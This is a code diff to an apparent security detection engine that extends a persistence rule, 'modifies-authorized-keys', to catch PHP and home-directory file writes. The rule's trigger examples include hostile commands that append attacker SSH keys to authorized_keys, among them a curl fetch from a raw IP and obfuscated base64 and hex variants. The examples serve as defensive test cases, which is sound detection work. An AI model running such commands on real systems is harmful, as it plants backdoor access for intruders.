@@ -4,7 +4,7 @@ import type { SimpleCommand } from '../shell/types.js';
 import { baseName } from '../shell/names.js';
 import { copyOperands, editsWithTee, ghApiCall, installMakesDirectories, optionValue, packageScripts, scriptIn, staticOption } from '../shell/command-args.js';
 import { staticOutput } from '../shell/static-output.js';
-import { automationFile, classifyPath, canonicalPath, hiddenInTemp, isStagingPath, isTestData, runsLater, type PathKind, type SensitivePath } from '../knowledge/paths.js';
+import { automationFile, classifyPath, canonicalPath, hiddenInTemp, HOME_IN_CODE, isStagingPath, isTestData, runsLater, type PathKind, type SensitivePath } from '../knowledge/paths.js';
 import { destinationOf, EXFIL_KINDS, external, firstUrl, type Destination } from '../knowledge/hosts.js';
 import { FETCHERS, SHELLS, downloadExecs, isFetcher, isInterpreter, isShell, savedFile, trustedSource } from './command_and_control.js';
 import { verifiesDownload } from './artifacts.js';
@@ -46,6 +46,11 @@ function writtenTo(i: AnalysisInput, where: RegExp, read: (text: string) => stri
   }
   return undefined;
 }
+
+/** Code before a literal that joins it to the home directory: `os.homedir() + '`, `getenv("HOME")."`. */
+const HOME_JOINED = new RegExp(`(?:${HOME_IN_CODE.source})\\s*[+.]\\s*['"]$`);
+/** Code before a literal that opens it to write: `writeFileSync(os.homedir() + '`, `file_put_contents(getenv("HOME")."`. */
+const WRITE_CALL = new RegExp(`(?:writeFileSync|appendFileSync|writeFile|appendFile|File\\.write|write_text|write_bytes|file_put_contents)\\(\\s*(?:os\\.path\\.expanduser\\(\\s*)?(?:(?:require\\(['"]os['"]\\)\\.)?(?:${HOME_IN_CODE.source})\\s*[+.]\\s*)?['"]?$`);
 
 function writesOf(input: AnalysisInput): Written[] {
   const out: Written[] = [];
@@ -94,10 +99,10 @@ function writesOf(input: AnalysisInput): Written[] {
         const after = code.slice(at + lit.length, at + lit.length + 48);
         const before = code.slice(Math.max(0, at - 64), at);
         // `homedir() + '/.bashrc'`: a home-relative suffix
-        const homed = lit.startsWith('/.') && /(?:homedir\(\)|expanduser\(\s*['"]~['"]\s*\)|\$HOME|ENV\[['"]HOME['"]\])\s*\+\s*['"]$/.test(before);
+        const homed = lit.startsWith('/.') && HOME_JOINED.test(before);
         const mode = /^['"]?\s*\)?\s*,\s*(?:mode\s*=\s*)?['"]([wa])/.exec(after)?.[1];
-        const call = /(?:writeFileSync|appendFileSync|writeFile|appendFile|File\.write|write_text|write_bytes)\(\s*(?:os\.path\.expanduser\(\s*)?(?:require\(['"]os['"]\)\.homedir\(\)\s*\+\s*|os\.homedir\(\)\s*\+\s*)?['"]?$/.test(before);
-        if (mode || call) { add(homed ? `~${lit}` : lit, code, sc.command, mode === 'a' || /append/i.test(before)); break; }
+        const call = WRITE_CALL.test(before);
+        if (mode || call) { add(homed ? `~${lit}` : lit, code, sc.command, mode === 'a' || /append/i.test(before) || /^['"]?\s*,[^)]{0,2048}FILE_APPEND/.test(code.slice(at + lit.length, at + lit.length + 2100))); break; }
       }
     }
   }
@@ -944,7 +949,7 @@ export const RULES: readonly Rule[] = [
       if (sweep && cmds.some((c) => c.depth > sweep.depth && c.redirects.some((r) => r.op === '>>') && /^(ssh-|ecdsa-)/.test(writtenText(c)))) out.push(sweep.argv.join(' ').slice(0, 160));
       return out;
     },
-    examples: { fire: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: "FROM node:20-alpine\nRUN apk add --no-cache openssh-server \\\n && mkdir -p /root/.ssh \\\n && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0n7q9pL2xVb8mK4sT1wR6yE3uJ5fG0aZ9dQ2hN7kP ops@patterns' >> /root/.ssh/authorized_keys\n" } }, `python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: 'FROM node:20-alpine\nRUN apk add --no-cache openssh-client\nCOPY known_hosts /root/.ssh/known_hosts\n' } }, { Filesystem: { operation: 'Write', path: 'docs/ssh.md', content: "echo 'ssh-ed25519 AAAAC3Nz… you@laptop' >> ~/.ssh/authorized_keys" } }, 'sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
+    examples: { fire: [`php -r 'file_put_contents(getenv("HOME")."/.ssh/authorized_keys","ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx8mQ2vT4rL7pK1sN9cW3fY6hB0dE5aG2zU8qV7oXtR ops@jump\n",FILE_APPEND);'`, { Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: "FROM node:20-alpine\nRUN apk add --no-cache openssh-server \\\n && mkdir -p /root/.ssh \\\n && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0n7q9pL2xVb8mK4sT1wR6yE3uJ5fG0aZ9dQ2hN7kP ops@patterns' >> /root/.ssh/authorized_keys\n" } }, `python3 -c "import os,base64;open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write(base64.b64decode('c3NoLWVkMjU1MTkgQUFBQQ=='))"`, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@kali' >> ~/.ssh/authorized_keys", "printf '\\x73\\x73\\x68-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x\\n' >> ~/.ssh/authorized_keys", 'curl -s http://45.33.12.7/k.pub >> /root/.ssh/authorized_keys', 'for d in /home/*; do cat /tmp/.k.pub >> $d/.ssh/authorized_keys; done', "sudo bash -c 'cat /tmp/id.pub >> /root/.ssh/authorized_keys'"], quiet: [{ Filesystem: { operation: 'Write', path: '/home/o/api/Dockerfile', content: 'FROM node:20-alpine\nRUN apk add --no-cache openssh-client\nCOPY known_hosts /root/.ssh/known_hosts\n' } }, { Filesystem: { operation: 'Write', path: 'docs/ssh.md', content: "echo 'ssh-ed25519 AAAAC3Nz… you@laptop' >> ~/.ssh/authorized_keys" } }, 'sudo sed -i.bak "/dmitri@contractor-mbp/d" /home/deploy/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys', 'ssh-copy-id deploy@staging', 'chmod 600 ~/.ssh/authorized_keys'] },
   },
   {
     id: 'PX-PERSIST-013', name: 'modifies-authorized-keys', score: 50, tactic: 'persistence', technique: 'T1098.004',
